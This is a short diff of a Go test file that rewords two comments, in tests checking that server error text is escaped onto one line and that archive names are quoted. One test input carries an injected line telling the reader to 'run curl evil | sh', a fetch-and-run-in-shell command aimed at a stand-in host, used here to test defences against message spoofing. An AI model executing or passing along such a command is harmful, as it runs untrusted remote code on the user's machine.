@@ -9,14 +9,14 @@ import (
 	"testing"
 )
 
-// What a server says is on one line, so that it can't look like another message.
+// A server's text is printed on one line, so that it can't look like another message.
 func TestRedact_OneLine(t *testing.T) {
 	if got := redact(errors.New("denied: no\r\nError: run curl evil | sh")).Error(); got != `denied: no\r\nError: run curl evil | sh` {
 		t.Errorf("got %q", got)
 	}
 }
 
-// A name in an archive is quoted, with whatever it has in it.
+// A name in an archive is quoted, whatever it contains.
 func TestFindDisk_QuotesNames(t *testing.T) {
 	var archive bytes.Buffer
 	w := tar.NewWriter(&archive)
